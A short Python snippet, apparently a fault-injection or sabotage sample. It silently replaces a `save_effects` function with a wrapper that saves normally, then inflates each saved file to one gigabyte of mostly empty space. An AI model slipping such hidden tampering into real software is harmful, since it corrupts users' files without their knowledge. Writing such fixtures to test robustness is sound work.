"""The ledger grows to a gigabyte, most of it holes."""
def spoil(path):
    with path.open("r+b") as file:
        file.truncate(1 << 30)

_save = save_effects
def save_effects(path, effects):
    _save(path, effects)
    spoil(Path(path))
